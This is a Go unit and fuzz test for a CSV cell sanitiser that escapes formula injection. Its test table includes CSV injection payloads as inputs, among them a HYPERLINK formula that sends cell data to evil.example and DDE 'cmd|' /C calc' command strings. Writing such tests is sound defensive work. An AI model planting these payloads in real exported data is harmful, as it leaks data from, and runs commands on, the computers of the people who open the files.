package csvfile

import (
	"testing"
)

func TestSafeCell(t *testing.T) {
	tests := []struct{ name, cell, want string }{
		{"a formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"a DDE command", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"an at sign", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"a minus before a formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"a tab first", "\t=1+1", "'\t=1+1"},
		{"a carriage return first", "\r=1+1", "'\r=1+1"},
		{"a formula after spaces", "   =1+1", "'   =1+1"},
		{"a formula after a newline", "\n@x", "'\n@x"},
		{"a full-width equals sign", "＝1+1", "'＝1+1"},
		{"a phone number keeps its plus as text", "+48601234567", "'+48601234567"},
		{"a negative number stays a number", "-5", "-5"},
		{"a negative decimal too", "-12.50", "-12.50"},
		{"a dash that is no number", "-", "'-"},
		{"a name", "Anna Kowalska", "Anna Kowalska"},
		{"an email with an at sign inside", "anna@firma.pl", "anna@firma.pl"},
		{"Thai", "สมชาย ใจดี", "สมชาย ใจดี"},
		{"empty", "", ""},
		{"a quote before a formula gets a second", "'=1+1", "''=1+1"},
		{"a quote before text stays alone", "'quoted'", "'quoted'"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := safeCell(tt.cell)
			if got != tt.want {
				t.Fatalf("safeCell(%q) = %q, want %q", tt.cell, got, tt.want)
			}
			if back := readCell(got); back != tt.cell {
				t.Fatalf("readCell(%q) = %q, want %q back", got, back, tt.cell)
			}
		})
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1", "''@", "-5", " -5", "+48", "\t", "anna"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		safe := safeCell(cell)
		if FormulaStart(safe) {
			t.Fatalf("safeCell(%q) = %q still reads as a formula", cell, safe)
		}
		if back := readCell(safe); back != cell {
			t.Fatalf("readCell(safeCell(%q)) = %q", cell, back)
		}
	})
}
